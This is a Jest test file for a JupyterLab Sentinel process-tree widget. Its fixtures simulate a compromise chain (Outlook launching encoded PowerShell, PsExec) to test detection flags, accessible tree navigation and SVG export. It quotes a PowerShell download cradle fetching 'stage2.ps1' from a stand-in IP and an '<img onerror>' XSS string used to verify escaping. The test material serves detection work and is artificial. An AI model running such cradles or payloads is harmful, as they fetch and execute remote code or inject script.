import { nullTranslator } from '@jupyterlab/translation';
import { Widget } from '@lumino/widgets';
import { processTreeViewFactory } from '..';
import type { ProcessTreeView } from '../widget';
import {
  DEVICE_PROCESS_COLUMNS,
  DEVICE_PROCESS_ROWS,
  PS_CMD,
  SECURITY_EVENT_COLUMNS,
  WKS
} from './story';

const trans = nullTranslator.load('jupyterlab_sentinel');

async function create(rows = DEVICE_PROCESS_ROWS): Promise<{
  view: ProcessTreeView;
  selected: (readonly number[])[];
}> {
  const selected: (readonly number[])[] = [];
  const view = (await processTreeViewFactory.create({
    columns: DEVICE_PROCESS_COLUMNS,
    rows,
    translator: nullTranslator,
    config: {},
    onConfigChanged: () => undefined,
    onSelectRows: rows => selected.push(rows)
  })) as ProcessTreeView;
  Widget.attach(view, document.body);
  return { view, selected };
}

function items(view: ProcessTreeView): HTMLElement[] {
  return [...view.node.querySelectorAll<HTMLElement>('[role="treeitem"]')];
}

function item(view: ProcessTreeView, name: string, nth = 0): HTMLElement {
  return items(view).filter(
    i =>
      i.querySelector(
        ':scope > .jp-SentinelProcessTree-row .jp-SentinelProcessTree-name'
      )?.textContent === name
  )[nth];
}

function key(target: HTMLElement, key: string, ctrlKey = false): void {
  target.dispatchEvent(
    new KeyboardEvent('keydown', { key, ctrlKey, bubbles: true })
  );
}

describe('process tree view', () => {
  afterEach(() => {
    document.body.textContent = '';
  });

  it('is offered for process events only, saying which columns it needs', () => {
    expect(
      processTreeViewFactory.unavailable(DEVICE_PROCESS_COLUMNS, trans)
    ).toBeNull();
    expect(
      processTreeViewFactory.unavailable(SECURITY_EVENT_COLUMNS, trans)
    ).toBeNull();
    expect(
      processTreeViewFactory.unavailable(
        [{ name: 'UserPrincipalName', type: 'string' }],
        trans
      )
    ).toMatch(/InitiatingProcessId.*ParentProcessName/);
  });

  it('draws hosts and their processes as an accessible tree, flags with reasons', async () => {
    const { view } = await create();
    const tree = view.node.querySelector('[role="tree"]')!;
    expect(tree.getAttribute('aria-multiselectable')).toBe('true');
    expect(
      items(view).map(
        i =>
          `${i.getAttribute('aria-level')} ${
            i.querySelector('.jp-SentinelProcessTree-name')!.textContent
          }`
      )
    ).toEqual([
      `1 ${WKS}`,
      '2 explorer.exe',
      '3 OUTLOOK.EXE',
      '4 powershell.exe',
      '5 PsExec64.exe',
      '3 powershell.exe',
      '1 srv-file01.contoso.example',
      '2 PSEXESVC.exe',
      '3 cmd.exe',
      '4 powershell.exe'
    ]);
    expect(
      view.node.querySelector('.jp-SentinelProcessTree-summary')!.textContent
    ).toBe('6 processes on 2 hosts · 4 flagged · 2 parents not in the result');
    const explorer = item(view, 'explorer.exe');
    expect(explorer.classList).toContain('jp-mod-missing');
    expect(explorer.textContent).toContain('not in the result');
    const powershell = item(view, 'powershell.exe');
    expect(
      [
        ...powershell.querySelectorAll(
          ':scope > .jp-SentinelProcessTree-row .jp-SentinelProcessTree-flag'
        )
      ].map(f => f.textContent)
    ).toEqual(['Encoded PowerShell', 'Download cradle', 'Started by Office']);
    expect(
      powershell.querySelector(':scope > .jp-SentinelProcessTree-reasons')!
        .textContent
    ).toContain(
      "decodes to: IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.50/stage2.ps1')"
    );
    expect(
      powershell.querySelector(':scope > .jp-SentinelProcessTree-command')!
        .textContent
    ).toBe(PS_CMD);
  });

  it('renders command lines and accounts as text, never as markup', async () => {
    const rows = [
      {
        ...DEVICE_PROCESS_ROWS[1],
        ProcessCommandLine: 'cmd.exe /c echo <img src=x onerror=alert(1)>',
        AccountName: '<b>mallory</b>'
      }
    ];
    const { view } = await create(rows);
    expect(view.node.querySelector('img, b')).toBeNull();
    expect(view.node.textContent).toContain('<img src=x onerror=alert(1)>');
    expect(view.node.textContent).toContain('<b>mallory</b>');
    expect(view.toSvg()).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });

  it('selects the rows of the nodes picked, and shows the selection made in the grid', async () => {
    const { view, selected } = await create();
    item(view, 'powershell.exe')
      .querySelector<HTMLElement>('.jp-SentinelProcessTree-name')!
      .click();
    expect(selected).toEqual([[1]]);
    item(view, 'PsExec64.exe')
      .querySelector<HTMLElement>('.jp-SentinelProcessTree-name')!
      .dispatchEvent(new MouseEvent('click', { bubbles: true, ctrlKey: true }));
    expect(selected[1]).toEqual([1, 3]);
    expect(item(view, 'PsExec64.exe').getAttribute('aria-selected')).toBe(
      'true'
    );
    // A missing parent stands for the rows that name it; a host for all of its rows.
    item(view, 'PSEXESVC.exe')
      .querySelector<HTMLElement>('.jp-SentinelProcessTree-name')!
      .click();
    expect(selected[2]).toEqual([0]);
    item(view, WKS)
      .querySelector<HTMLElement>('.jp-SentinelProcessTree-name')!
      .click();
    expect(selected[3]).toEqual([1, 2, 3, 5]);

    view.setSelection(new Set([4]));
    expect(
      items(view)
        .filter(i => i.getAttribute('aria-selected') === 'true')
        .map(
          i => i.querySelector('.jp-SentinelProcessTree-command')?.textContent
        )
    ).toEqual([expect.stringContaining('Invoke-WebRequest')]);
  });

  it('moves, collapses, expands and selects from the keyboard', async () => {
    const { view, selected } = await create();
    const first = items(view)[0];
    expect(first.tabIndex).toBe(0);
    first.focus();
    key(first, 'ArrowDown');
    expect(document.activeElement).toBe(item(view, 'explorer.exe'));
    key(item(view, 'explorer.exe'), 'ArrowLeft');
    expect(item(view, 'explorer.exe').getAttribute('aria-expanded')).toBe(
      'false'
    );
    expect(item(view, 'OUTLOOK.EXE')).toBeUndefined();
    key(item(view, 'explorer.exe'), 'ArrowDown');
    expect(document.activeElement).toBe(
      item(view, 'srv-file01.contoso.example')
    );
    key(document.activeElement as HTMLElement, 'ArrowUp');
    key(document.activeElement as HTMLElement, 'ArrowRight');
    expect(item(view, 'OUTLOOK.EXE')).toBeDefined();
    key(document.activeElement as HTMLElement, 'ArrowRight');
    expect(document.activeElement).toBe(item(view, 'OUTLOOK.EXE'));
    key(document.activeElement as HTMLElement, 'Enter');
    expect(selected).toEqual([[2]]);
    // Left collapses an open node, and on a closed one goes to its parent.
    key(document.activeElement as HTMLElement, 'ArrowLeft');
    expect(item(view, 'OUTLOOK.EXE').getAttribute('aria-expanded')).toBe(
      'false'
    );
    key(document.activeElement as HTMLElement, 'ArrowLeft');
    expect(document.activeElement).toBe(item(view, 'explorer.exe'));
    key(document.activeElement as HTMLElement, 'End');
    expect(document.activeElement).toBe(item(view, 'powershell.exe', 1));
    expect(
      (document.activeElement as HTMLElement).querySelector(
        '.jp-SentinelProcessTree-command'
      )!.textContent
    ).toContain('Compress-Archive');
    expect(items(view).filter(i => i.tabIndex === 0)).toHaveLength(1);
  });

  it('lists a large branch a page at a time', async () => {
    const rows = Array.from({ length: 450 }, (_, i) => ({
      ...DEVICE_PROCESS_ROWS[5],
      TimeGenerated: new Date(Date.UTC(2026, 10, 27, 9, 0, i)).toISOString(),
      ProcessId: 1000 + i
    }));
    const { view, selected } = await create(rows);
    const explorer = item(view, 'explorer.exe');
    const children = (): HTMLElement[] => [
      ...explorer.querySelectorAll<HTMLElement>(':scope > ul > li')
    ];
    expect(children()).toHaveLength(201);
    const more = children()[200];
    expect(more.textContent).toBe('Show 200 more (250 not shown)');
    expect(more.getAttribute('role')).toBe('treeitem');
    more.focus();
    key(more, 'Enter');
    expect(children()).toHaveLength(401);
    expect(children()[400].textContent).toBe('Show 50 more (50 not shown)');
    expect(document.activeElement).toBe(children()[200]);
    expect(selected).toEqual([]);
    expect(view.toSvg()).toContain('… 50 more');
  });

  it('exports the expanded tree as a standalone SVG document', async () => {
    const { view } = await create();
    item(view, 'srv-file01.contoso.example')
      .querySelector<HTMLElement>('.jp-SentinelProcessTree-caret')!
      .click();
    const svg = view.toSvg();
    const doc = new DOMParser().parseFromString(svg, 'image/svg+xml');
    expect(doc.querySelector('parsererror')).toBeNull();
    const root = doc.documentElement;
    expect(root.getAttribute('xmlns')).toBe('http://www.w3.org/2000/svg');
    expect(Number(root.getAttribute('width'))).toBeGreaterThan(0);
    const text = [...doc.querySelectorAll('text')].map(t => t.textContent);
    expect(text).toContain(`${WKS} — 5 processes`);
    expect(text.some(t => t?.startsWith('PsExec64.exe'))).toBe(true);
    expect(text.some(t => t?.startsWith('srv-file01.contoso.example'))).toBe(
      true
    );
    // The collapsed host's processes are not drawn.
    expect(text.some(t => t?.startsWith('PSEXESVC.exe'))).toBe(false);
  });
});
